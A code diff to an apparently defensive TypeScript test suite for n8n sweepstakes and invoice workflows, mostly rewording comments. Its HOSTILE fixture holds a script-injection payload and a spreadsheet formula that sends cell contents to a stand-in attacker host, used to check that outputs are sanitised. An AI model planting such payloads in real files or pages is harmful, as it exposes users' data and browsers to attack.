@@ -22,7 +22,7 @@ test.each(FILES)('%s contains no credential, no sweepstakes and no guessable web
 	}
 });
 
-/** The anchor of a heading, a file or a workflow: "draw-invoice-email". */
+/** Returns the anchor of a heading, a file or a workflow: "draw-invoice-email". */
 const toAnchor = (name: string) =>
 	name
 		.toLowerCase()
@@ -39,14 +39,14 @@ test('the page, the file and the imported workflow have the same name', () => {
 	expect(named.toSorted()).toEqual(FILES.map((file) => Array(3).fill(file.replace('.json', ''))).toSorted());
 });
 
-/** Examples whose manual executions n8n keeps as a record of draws and invoices, as their notes say. */
+/** Examples whose manual executions n8n keeps as a record of draws and invoices. Their notes say so. */
 const KEPT_IF_BY_HAND = [
 	'draw-invoice-email',
 	'tell-the-winners',
 	'draw-with-a-record',
 	'import-draw-invoice',
 ];
-/** Examples that handle no people. */
+/** Examples that do not process personal data. */
 const KEPT = ['approve-by-email', 'check-your-account', 'codes-to-csv', 'month-end-report', 'nightly-check'];
 
 test('n8n saves no successful execution of an example that handles people', () => {
@@ -64,7 +64,7 @@ test('form-to-participant waits up to 15 minutes for a visitor to see the last p
 	expect(endings.map(({ parameters }) => parameters)).toEqual(Array(3).fill(expect.objectContaining(limit)));
 });
 
-/** Hostile input from strangers, one of each harmful kind. */
+/** Hostile input from strangers: one of each harmful kind. */
 const HOSTILE = {
 	script: '<script>alert(1)</script><img src=x onerror="alert(1)">',
 	formula: '=HYPERLINK("http://evil.example/?q="&A1)',
@@ -78,7 +78,7 @@ const HOSTILE = {
 };
 const KINDS = Object.entries(HOSTILE);
 
-/** Knows no node type, because resolving expressions needs none. */
+/** These node types are empty, because resolving expressions needs none. */
 const nodeTypes = {
 	getByName: () => undefined,
 	getByNameAndVersion: () => undefined,
@@ -91,7 +91,7 @@ const chosen = (file: string) =>
 		sweepstakes: { token: 'token', name: 'Summer' },
 	});
 
-/** A node's parameters as n8n resolves them for one item. */
+/** Returns a node's parameters as n8n resolves them for one item. */
 function resolved(file: string, node: string, json: n8n.IDataObject): n8n.INodeParameters {
 	const { nodes, connections } = chosen(file);
 	const workflow = new Workflow({
@@ -116,7 +116,7 @@ function resolved(file: string, node: string, json: n8n.IDataObject): n8n.INodeP
 	) as n8n.INodeParameters;
 }
 
-/** The output of a node that edits fields, or the parameters of another node. */
+/** Returns the output of a node that edits fields, or the parameters of another node. */
 function output(file: string, node: string, json: n8n.IDataObject): n8n.IDataObject {
 	const parameters = resolved(file, node, json);
 	if (parameters['mode'] === 'raw') return parameters['jsonOutput'] as n8n.IDataObject;
@@ -129,7 +129,7 @@ function output(file: string, node: string, json: n8n.IDataObject): n8n.IDataObj
 const TEXTS =
 	'FirstName LastName SweepstakesName Handler CouponCode Title RecipientName InvoiceNumber Description TransactionID Address Reason Name Currency Email PhoneNumber';
 
-/** A record of the service in which every string is hostile. */
+/** Makes a record of the service in which every string is hostile. */
 const record = (text: string): n8n.IDataObject => ({
 	...Object.fromEntries(TEXTS.split(' ').map((name) => [name, text])),
 	Collections: [text],
@@ -182,7 +182,7 @@ describe('a cell of a file', () => {
 	});
 });
 
-/** What a text must not contain: tags, Markdown links or images, and addresses that programs turn into links. */
+/** What a message must not contain: tags, Markdown links or images, and addresses that programs turn into links. */
 const HARMFUL = /[<>[\]\0-\x08\x0b-\x1f]|:\/\/|[a-z]\.example/i;
 
 describe('a message', () => {
@@ -240,7 +240,7 @@ describe('a page', () => {
 describe('an answer in a chat', () => {
 	const CHATS = ['ask-about-a-sweepstakes', 'chat-to-participant', 'approve-by-email'];
 
-	/** What a program could turn into a link if it stands outside of code in Markdown. */
+	/** Matches what a program could turn into a link if it stands outside of code in Markdown. */
 	const LINKABLE = /[<>[\]\\$]|\/\/|[.:@](?=\p{L})|&[#\w]/u;
 
 	test.each(CHATS)('of %s has no image, and shows addresses only as code', (file) => {
@@ -256,7 +256,7 @@ describe('an answer in a chat', () => {
 		expect(targets!.map(({ node }) => node)).toEqual(['Without Links']);
 	});
 
-	test('is made by the same expression in each example', () => {
+	test('is made with the same expression in each example', () => {
 		const expressions = CHATS.map(
 			(file) => nodeNamed(chosen(file), 'Without Links').parameters['assignments'],
 		);
@@ -278,31 +278,34 @@ describe('an answer in a chat', () => {
 test.each([
 	['mcp-server', 'Few Fields', ['SweepstakesName', 'Handler', 'FirstName', 'LastName', 'DrawDateTime']],
 	['ask-about-a-sweepstakes', 'Names Only', ['FirstName', 'LastName', 'DrawDateTime']],
-])('%s: a model reads few fields, each a short line, and names without links', (file, node, fields) => {
-	for (const [, text] of KINDS) {
-		const { Handler, ...answer } = output(file, node, record(text));
-		expect([...Object.keys(answer), ...(Handler === undefined ? [] : ['Handler'])].sort()).toEqual(
-			fields.toSorted(),
-		);
-		expect(String(Handler)).not.toMatch(/[\r\n\t]/);
-		for (const value of Object.values(answer)) {
-			expect(String(value).length).toBeLessThanOrEqual(400);
-			expect(value).not.toMatch(HARMFUL);
+])(
+	'%s: a model reads only a few fields, each in a short line, and names without links',
+	(file, node, fields) => {
+		for (const [, text] of KINDS) {
+			const { Handler, ...answer } = output(file, node, record(text));
+			expect([...Object.keys(answer), ...(Handler === undefined ? [] : ['Handler'])].sort()).toEqual(
+				fields.toSorted(),
+			);
+			expect(String(Handler)).not.toMatch(/[\r\n\t]/);
+			for (const value of Object.values(answer)) {
+				expect(String(value).length).toBeLessThanOrEqual(400);
+				expect(value).not.toMatch(HARMFUL);
+			}
 		}
-	}
-	const nested = { [KINDS[0]![1]]: Object.values(HOSTILE), deep: [[[HOSTILE.image]]] };
-	for (const value of [nested, [nested], Object.values(HOSTILE)]) {
-		const all = Object.fromEntries(fields.map((field) => [field, value]));
-		for (const [field, text] of Object.entries(output(file, node, all as n8n.IDataObject))) {
-			expect(String(text).length).toBeLessThanOrEqual(400);
-			expect(text).not.toMatch(/[\r\n]/);
-			if (field.endsWith('Name')) expect(text).not.toMatch(HARMFUL);
+		const nested = { [KINDS[0]![1]]: Object.values(HOSTILE), deep: [[[HOSTILE.image]]] };
+		for (const value of [nested, [nested], Object.values(HOSTILE)]) {
+			const all = Object.fromEntries(fields.map((field) => [field, value]));
+			for (const [field, text] of Object.entries(output(file, node, all as n8n.IDataObject))) {
+				expect(String(text).length).toBeLessThanOrEqual(400);
+				expect(text).not.toMatch(/[\r\n]/);
+				if (field.endsWith('Name')) expect(text).not.toMatch(HARMFUL);
+			}
 		}
-	}
-	const plain = { FirstName: null, LastName: 7, DrawDateTime: true };
-	expect(output(file, node, plain)).toEqual(plain);
-	expect(output(file, node, {})).toEqual({ found: 0, message: 'Nothing was found.' });
-});
+		const plain = { FirstName: null, LastName: 7, DrawDateTime: true };
+		expect(output(file, node, plain)).toEqual(plain);
+		expect(output(file, node, {})).toEqual({ found: 0, message: 'Nothing was found.' });
+	},
+);
 
 test.each([
 	['Shopify', { phone: '+12025550150' }],
